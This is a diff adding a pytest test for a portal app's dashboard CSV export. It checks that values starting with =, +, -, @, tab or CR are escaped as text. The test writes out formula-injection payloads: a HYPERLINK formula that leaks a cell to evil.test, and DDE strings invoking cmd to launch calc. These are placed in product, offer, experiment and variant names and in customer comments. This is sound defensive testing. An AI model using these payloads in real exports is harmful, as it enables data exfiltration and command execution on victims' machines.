@@ -14,16 +14,22 @@ import polars as pl
 import pytest
 
 from analytics import metrics
+from analytics.dashboard import Dashboard
 from analytics.synthetic import generate, to_stripe_events
 from portal_app import i18n
 from portal_app.accounts import services as accounts
+from portal_app.billing.provider import ItemSpec
+from portal_app.billing.providers import billing_provider
 from portal_app.db import UnitOfWork
 from portal_app.events.importer import import_events
 from portal_app.events.synthetic_history import import_synthetic_history
-from portal_app.portal import configurations
+from portal_app.portal import configurations, sessions
+from portal_app.retention import experiments, flows, offers
+from portal_app.retention.experiments import VariantSpec
 from portal_app.state import console as console_state
 from portal_app.state.console_dashboard import ALL, DashboardState
 from portal_app.web.console_sign_in import COOKIE
+from tests.portal_app.retention.conftest import CANCEL_FEATURES
 from tests.portal_app.state.test_console_state import redirects_to_login, run, sign_in, state_of
 
 PATH = "/console/dashboard"
@@ -255,3 +261,59 @@ def test_an_invalid_custom_range_says_why_and_keeps_the_numbers(
     run(DashboardState.set_range, state, "3m")  # back to a preset: the message goes
     assert state.range_error == "" and not state.is_custom
     assert _periods(state) == ["2025-11", "2025-12", "2026-01"]
+
+
+FORMULA = '=HYPERLINK("https://evil.test/?leak="&A1,"Click for your refund")'
+
+
+def test_no_downloaded_cell_is_a_formula(account_id: str, make_uow) -> None:
+    # A console user names an experiment and its arms with formulas, and a customer leaves
+    # a formula as their comment, through the real portal cancel flow: every CSV of the
+    # dashboard shows them as text (OWASP: a quote before = + - @ tab CR), never as formulas.
+    billing = billing_provider(account_id, uow=make_uow())
+    product = billing.create_product(name="@SUM(1+1)*cmd|' /C calc'!A0")
+    price = billing.create_price(product=product["id"], currency="usd", unit_amount=4900,
+                                 interval="month")
+    config = configurations.create_configuration({"features": CANCEL_FEATURES},
+                                                 account_id=account_id, uow=make_uow())
+    offer = offers.create_offer(account_id=account_id, uow=make_uow(), type="contact",
+                                name="-2+3+cmd|' /C calc'!A0",
+                                contact_url="https://acme.test/talk")
+    experiment = experiments.create_experiment(
+        account_id=account_id, uow=make_uow(), name=FORMULA, configuration=config.id,
+        variants=[VariantSpec(name="+control", weight=1),
+                  VariantSpec(name="@contact", weight=1, offers={"default": offer.id})])
+    experiments.start_experiment(experiment.id, account_id=account_id, uow=make_uow())
+    for i in range(4):
+        customer = billing.create_customer(email=f"c{i}@example.com",
+                                           payment_method="pm_card_visa")["id"]
+        sub = billing.create_subscription(customer=customer, items=[ItemSpec(price["id"])])
+        session = sessions.create_session(account_id=account_id, uow=make_uow(),
+                                          customer=customer, configuration=config.id).session
+        flow = flows.start_flow(session, sub["id"], uow=make_uow()).flow
+        if flows.submit_reason(session, flow.id, "too_expensive", FORMULA, uow=make_uow()):
+            flows.decline_offer(session, flow.id, uow=make_uow())
+        flows.confirm_cancel(session, flow.id, uow=make_uow())
+    state = _signed_in(account_id, make_uow)
+    run(DashboardState.load, state)
+    assert state.status == "ready"
+
+    tables = {table: _csv(run(DashboardState.download, state, table)[0])
+              for table in Dashboard.TABLES}
+
+    assert FORMULA in {row.experiment for row in state.experiments}  # the page shows it as is
+    header, *rows = tables["experiments"]
+    named = [dict(zip(header, row, strict=True)) for row in rows]
+    assert {row["name"] for row in named} == {"'" + FORMULA}
+    assert {row["variant_name"] for row in named} == {"'+control", "'@contact"}
+    cells = [cell for table in tables.values() for row in table for cell in row]
+    assert cells and not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")
+                          or (cell.startswith("-") and not _is_number(cell))]
+
+
+def _is_number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
